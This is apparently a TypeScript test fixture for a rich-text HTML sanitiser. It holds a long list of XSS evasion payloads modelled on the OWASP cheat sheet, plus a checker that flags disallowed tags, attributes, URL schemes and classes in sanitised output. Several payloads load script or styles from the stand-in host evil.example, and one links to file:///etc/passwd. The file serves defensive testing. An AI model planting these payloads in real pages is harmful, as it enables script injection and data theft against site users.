import {
  alignmentClass,
  colourClass,
  RICH_TEXT_ALIGNMENTS,
  RICH_TEXT_BLOCKS,
  RICH_TEXT_INLINE,
  RICH_TEXT_PALETTE,
  RICH_TEXT_SCHEMES,
} from "../../src/shared/rich-text.ts";

/**
 * Script injection attempts an admin's rich text might carry (pasted from elsewhere, or sent to the
 * API by hand), after the OWASP XSS filter evasion cheat sheet: script elements in every casing and
 * broken shapes, event attributes, javascript:, vbscript: and data: URLs hidden by entities, case
 * and whitespace, foreign markup (svg, math), embedding elements, styles that run or fetch, and
 * parser confusion (comments, raw-text elements, unclosed tags). None holds a NUL or a lone
 * surrogate, which the API refuses before any resolver (docs/decisions.md, Security).
 */
export const XSS_PAYLOADS: readonly string[] = [
  // script elements
  `<script>alert(1)</script>`,
  `<SCRIPT>alert(1)</SCRIPT>`,
  `<ScRiPt>alert(1)</sCrIpT>`,
  `<script src="https://evil.example/x.js"></script>`,
  `<script/xss src="https://evil.example/x.js"></script>`,
  `<<script>alert(1);//<</script>`,
  `<p>unclosed <script>alert(1)`,
  `<scr<script>ipt>alert(1)</scr</script>ipt>`,
  `"><script>alert(1)</script>`,
  `<img """><script>alert(1)</script>">`,
  `<textarea><script>alert(1)</script></textarea>`,
  // event attributes
  `<img src=x onerror=alert(1)>`,
  `<IMG SRC=x ONERROR=alert(1)>`,
  `<img src=\`x\` onerror=alert(1)>`,
  `<p onclick="alert(1)">x</p>`,
  `<p ONMOUSEOVER=alert(1)>x</p>`,
  `<p/onclick=alert(1)>x</p>`,
  `<div/onmouseover='alert(1)'>x</div>`,
  `<h1 onmouseover=alert(1)>x</h1>`,
  `<body onload=alert(1)>`,
  `<frameset onload=alert(1)>`,
  `<input onfocus=alert(1) autofocus>`,
  `<details open ontoggle=alert(1)>x</details>`,
  `<video><source onerror="alert(1)"></video>`,
  `<audio src=x onerror=alert(1)>`,
  `<marquee onstart=alert(1)>x</marquee>`,
  `<a href="https://ok.example/" onclick="alert(1)">x</a>`,
  `<strong onmouseenter="alert(1)">x</strong>`,
  // javascript:, vbscript: and data: URLs
  `<a href="javascript:alert(1)">x</a>`,
  `<a href="JaVaScRiPt:alert(1)">x</a>`,
  `<a href=" javascript:alert(1)">x</a>`,
  `<a href="java&#x09;script:alert(1)">x</a>`,
  `<a href="java&#x0A;script:alert(1)">x</a>`,
  `<a href="java&#x0D;script:alert(1)">x</a>`,
  `<a href="java\tscript:alert(1)">x</a>`,
  `<a href="&#14;javascript:alert(1)">x</a>`,
  `<a href="\u0001javascript:alert(1)">x</a>`,
  `<a href="jav&#x61;script:alert(1)">x</a>`,
  `<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>`,
  `<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>`,
  `<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>`,
  `<a href="javascript&colon;alert(1)">x</a>`,
  `<a href="javascript:alert(1)" style="color:black">x</a>`,
  `<a href="vbscript:msgbox(1)">x</a>`,
  `<a href="VBScript:msgbox(1)">x</a>`,
  `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  `<a href="DATA:text/html,<script>alert(1)</script>">x</a>`,
  `<a href="  data:text/html,x">x</a>`,
  `<a href="d&#x61;ta:text/html,x">x</a>`,
  `<a href="file:///etc/passwd">x</a>`,
  `<a href="//evil.example/x">x</a>`,
  `<img src="javascript:alert(1)">`,
  `<IMG SRC=JaVaScRiPt:alert('XSS')>`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<table background="javascript:alert(1)"><tr><td>x</td></tr></table>`,
  // svg and math
  `<svg onload=alert(1)>`,
  `<svg><script>alert(1)</script></svg>`,
  `<svg><a xlink:href="javascript:alert(1)"><text x="0" y="20">x</text></a></svg>`,
  `<svg><style>*{x:expression(alert(1))}</style></svg>`,
  `<math href="javascript:alert(1)">x</math>`,
  `<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
  // frames, objects, embeds, and elements that change the page
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<object type="text/x-scriptlet" data="https://evil.example/x.sct"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
  `<applet code="x">`,
  `<style>body{background:url(javascript:alert(1))}</style>`,
  `<link rel="stylesheet" href="https://evil.example/x.css">`,
  `<base href="https://evil.example/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
  // styles that run script, fetch or cover the page
  `<p style="background-image: url(javascript:alert(1))">x</p>`,
  `<p style="width: expression(alert(1))">x</p>`,
  `<p style="text-align: center; color: expression(alert(1))">x</p>`,
  `<p style="text-align: expression(alert(1))">x</p>`,
  `<p style="behavior: url(xss.htc)">x</p>`,
  `<p style="-moz-binding: url(https://evil.example/xss.xml#xss)">x</p>`,
  `<p style="text-align:left;background:url(https://evil.example/track.png)">x</p>`,
  `<span style="color: red; position: fixed; top: 0">x</span>`,
  `<span style="color: #000000; background: url('javascript:alert(1)')">x</span>`,
  `<div style="background:url('javascript:alert(1)')">x</div>`,
  // parser confusion
  `<!--<img src="--><img src=x onerror=alert(1)//">`,
  `<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
  `<xmp><p title="</xmp><img src=x onerror=alert(1)>">`,
  `<title><img src=x onerror=alert(1)></title>`,
  `<p <script>alert(1)</script>>x</p>`,
];

const allowedTags: ReadonlySet<string> = new Set([...RICH_TEXT_BLOCKS, ...RICH_TEXT_INLINE]);
const allowedClasses: ReadonlySet<string> = new Set([
  ...RICH_TEXT_ALIGNMENTS.map(alignmentClass),
  ...(Object.keys(RICH_TEXT_PALETTE) as (keyof typeof RICH_TEXT_PALETTE)[]).map(colourClass),
]);
const decoded = (value: string) =>
  value.replace(/&(#x[0-9a-f]+|#\d+|amp|quot|lt|gt|apos);/gi, (_, entity: string) =>
    entity[0] === "#"
      ? String.fromCodePoint(entity[1]!.toLowerCase() === "x" ? parseInt(entity.slice(2), 16) : Number(entity.slice(1)))
      : ({ amp: "&", quot: '"', lt: "<", gt: ">", apos: "'" } as Record<string, string>)[entity.toLowerCase()]!,
  );

/**
 * What is still dangerous in sanitised HTML: an element outside the allow-list (a script above
 * all), an attribute that is not href, rel, target or class (any on* handler, and a style, which
 * the site's CSP refuses), a URL with a scheme other than http, https or mailto, or a class other
 * than an alignment or a colour of the palette. The
 * sanitiser writes every `<` of text as `&lt;` and quotes every attribute with `"`, so reading
 * its tags with a pattern is exact.
 */
export function unsafeParts(html: string): string[] {
  const problems: string[] = [];
  for (const [, name, attributes] of html.matchAll(/<\/?([a-zA-Z][^\s/>]*)([^>]*)>/g)) {
    const tag = name!.toLowerCase();
    if (!allowedTags.has(tag)) problems.push(`element ${tag}`);
    for (const [, attribute, value = ""] of attributes!.matchAll(/([^\s="]+)(?:="([^"]*)")?/g)) {
      const key = attribute!.toLowerCase();
      const text = decoded(value);
      if (!["href", "rel", "target", "class"].includes(key)) problems.push(`attribute ${key} on ${tag}`);
      if (key === "href") {
        const scheme = /^([^/?#:]*):/.exec(text.replace(/[\s\u0000-\u001f]/g, ""))?.[1]?.toLowerCase();
        if (
          (scheme !== undefined && !(RICH_TEXT_SCHEMES as readonly string[]).includes(scheme)) ||
          text.trim().startsWith("//")
        )
          problems.push(`url ${text}`);
      }
      if (key === "class")
        for (const name of text.split(/\s+/).filter(Boolean))
          if (!allowedClasses.has(name)) problems.push(`class ${name}`);
      if (key === "target" && text !== "_blank") problems.push(`target ${text}`);
    }
  }
  return problems;
}
